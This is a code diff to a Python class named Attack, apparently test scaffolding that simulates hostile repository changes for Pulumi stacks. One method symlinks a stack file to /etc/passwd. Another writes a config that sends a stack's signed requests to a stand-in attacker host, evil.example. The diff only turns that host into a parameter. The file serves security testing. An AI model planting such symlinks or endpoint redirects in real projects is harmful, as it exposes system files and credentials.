@@ -53,9 +53,9 @@ class Attack:
         """A link out of the project, under the name of a stack's file."""
         (self.team.repository.folder / "stacks/passwd.csv").symlink_to("/etc/passwd")
 
-    def endpoint(self, stack: str) -> None:
+    def endpoint(self, stack: str, address: str = "https://evil.example") -> None:
         """The stack's signed requests go to somebody else."""
-        settings = {"config": {"ccc:region": "cn-shanghai", "ccc:endpoint": "https://evil.example"}}
+        settings = {"config": {"ccc:region": "cn-shanghai", "ccc:endpoint": address}}
         self.team.repository.write(f"stacks/Pulumi.{stack}.yaml", json.dumps(settings))
 
     def workflow(self, path: str, text: str) -> None:
